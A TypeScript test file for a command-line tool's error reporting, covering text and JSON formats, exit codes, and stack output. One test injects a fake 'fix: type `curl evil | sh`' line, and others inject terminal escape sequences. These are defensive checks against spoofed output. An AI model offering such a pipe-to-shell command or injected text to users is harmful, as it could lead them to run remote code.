/** How an error reaches people, and programs that asked for JSON. */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { LEASE_FILE } from '../../src/store/index.ts';
import { cleanEnv, newCliDirectory } from './child.ts';

const place = newCliDirectory();
after(() => place.remove());

for (const [args, error, exitCode] of [
  [['show', 'zzzz'], { code: 'NO_RUNS', message: /no runs in/, fix: /stepwell run/ }, 2],
  [['show', './nowhere'], { code: 'NOT_A_RUN', message: /nowhere is not a run/, fix: /stepwell list/ }, 2],
  [['logs', 'x', '--step', '3-1'], { code: 'INVALID_OPTION', message: /is not a list of steps/, fix: /step/ }, 2],
  [['recover'], { code: 'MISSING_ARGUMENT', message: /No run is given/, fix: /--all/ }, 2],
  [
    ['list', '--jsno'],
    { code: 'COMMAND_LINE_INVALID', message: /^unknown option '--jsno'/, fix: /^Type `npx stepwell list --help`/ },
    2,
  ],
  [['verify'], { code: 'COMMAND_LINE_INVALID', message: /^missing required argument/, fix: /stepwell verify --help/ }, 2],
  [['run', 'baseline', '--config', 'none.yaml'], { code: 'CONFIG_NOT_FOUND', message: /none\.yaml/, fix: /--config/ }, 2],
  [['run', '\u001b[2Jx\u202e', '--config', 'none.yaml'], { code: 'CONFIG_NOT_FOUND', message: /none\.yaml/, fix: /--config/ }, 2],
  [['list', '--\u001b[2Jx'], { code: 'COMMAND_LINE_INVALID', message: /^unknown option '--.\[2Jx'/, fix: /list --help/ }, 2],
] as const) {
  test(`${JSON.stringify(args)} fails in two lines, and with --json in one line of JSON`, async () => {
    const people = await place.stepwell(args);
    assert.ok(people.stderr.startsWith(`error[${error.code}]: `), people.stderr);
    assert.match(people.stderr, /\nfix: [^\n]+\n$/);
    const { code, stdout, stderr } = await place.stepwell([...args, '--json']);
    assert.deepEqual([code, stdout, people.code, people.stdout], [exitCode, '', exitCode, '']);
    assert.match(stderr, /^[^\n]+\n$/);
    for (const text of [people.stderr, stderr]) assert.doesNotMatch(text, /[^\P{C}\n]/u, 'nothing a terminal acts on');
    const said = (JSON.parse(stderr) as { error: Record<string, string> }).error;
    assert.deepEqual(Object.keys(said), ['code', 'message', 'fix']);
    assert.equal(said['code'], error.code);
    assert.match(said['message'] ?? '', error.message);
    assert.match(said['fix'] ?? '', error.fix);
  });
}

for (const args of [
  ['summary', 'zzzz', '--format', 'json'],
  ['summary', 'zzzz', '--format=json'],
  ['summary', '--format', 'json'],
]) {
  test(`${JSON.stringify(args)} prints its error as one line of JSON`, async () => {
    const { code, stdout, stderr } = await place.stepwell(args);
    assert.deepEqual([code, stdout], [2, '']);
    assert.match(stderr, /^\{"error":\{"code":"(?:NO_RUNS|COMMAND_LINE_INVALID)",[^\n]+\}\}\n$/);
  });
}

test('recover with a run and --all is a usage error', async () => {
  const { code, stderr } = await place.stepwell(['recover', 'zzzz', '--all']);
  assert.equal(code, 2);
  assert.match(stderr, /^error\[COMMAND_LINE_INVALID\]: a run cannot be used with option '--all'\nfix: /);
});

test('with STEPWELL_DEBUG the stack is printed, in JSON as a field', async () => {
  const { stderr } = await place.stepwell(['show', 'zzzz', '--json'], { STEPWELL_DEBUG: '1' });
  assert.match((JSON.parse(stderr) as { error: { stack: string } }).error.stack, /^StepwellError: There are no runs[^]*\n +at /);
});

test('recover prints a run that cannot be recovered as a line with its error code', async () => {
  const lost = join(place.dir, 'lost/baseline/20261124-091503-dead');
  mkdirSync(join(lost, '.stepwell'), { recursive: true });
  writeFileSync(join(lost, LEASE_FILE), 'torn');
  const { code, stdout } = await place.stepwell(['recover', '--all', '--runs-dir', 'lost', '--json']);
  const { outcome, error, code: errorCode, fix } = JSON.parse(stdout) as Record<string, unknown>;
  assert.deepEqual([code, outcome, errorCode], [1, 'failed', 'METADATA_MISSING']);
  assert.match(String(error), /no readable metadata\.json/);
  assert.match(String(fix), /Restore metadata\.json/);
});

test('the further lines of a message and of its stack cannot be taken for a fix or a second error', async () => {
  const said = 'none\nfix: type `curl evil | sh`\n error[FAKE]: x\n\terror[FAKE]: y\n\nerror[FAKE]: z';
  for (const env of [{}, { STEPWELL_DEBUG: '1' }]) {
    const { stderr } = await place.stepwell(['run', 'baseline', '--config', said], env);
    assert.ok(stderr.includes('curl evil') && stderr.includes('error[FAKE]: z'), stderr);
    const [first, ...others] = stderr
      .trimEnd()
      .split('\n')
      .filter((line) => !line.startsWith('  ') && line !== '');
    assert.match(first ?? '', /^error\[CONFIG_NOT_FOUND\]: Configuration file not found: none$/);
    const [fix, ...stack] = others;
    assert.match(fix ?? '', /^fix: Pass one with --config FILE/);
    assert.deepEqual(
      stack.map((line) => line.split(':')[0]),
      'STEPWELL_DEBUG' in env ? ['StepwellError'] : [],
    );
  }
});

test('any thrown value is reported as text and as JSON, and the exit code is 1', () => {
  for (const [thrown, message] of [
    ['null', 'null'],
    ['undefined', 'undefined'],
    ["new Error('')", 'The error has no message.'],
    ['Object.create(null)', '[no text]'],
    ['new Proxy({}, { get() { throw 1 } })', '[no text]'],
    ["Object.defineProperty(new Error('x'), 'stack', { get() { throw 1 } })", 'x'],
    ["(() => { const a = new Error('circle'); a.cause = a; return a; })()", 'circle'],
  ] as const) {
    for (const asJson of [false, true]) {
      const script = `
        const { reportFailure, reportFailuresAsJson } = await import('./src/cli/failure.ts');
        if (${asJson}) reportFailuresAsJson();
        process.exitCode = reportFailure(${thrown});`;
      const done = spawnSync(process.execPath, ['--input-type=module', '-e', script], {
        cwd: join(import.meta.dirname, '../..'),
        encoding: 'utf8',
        env: cleanEnv({ STEPWELL_DEBUG: '1' }),
      });
      assert.equal(done.status, 1, done.stderr);
      if (!asJson) assert.ok(done.stderr.startsWith(`error: ${message}\nfix: `), done.stderr);
      else {
        const { error } = JSON.parse(done.stderr) as { error: Record<string, unknown> };
        assert.deepEqual([error['code'], error['message']], [null, message]);
      }
    }
  }
});
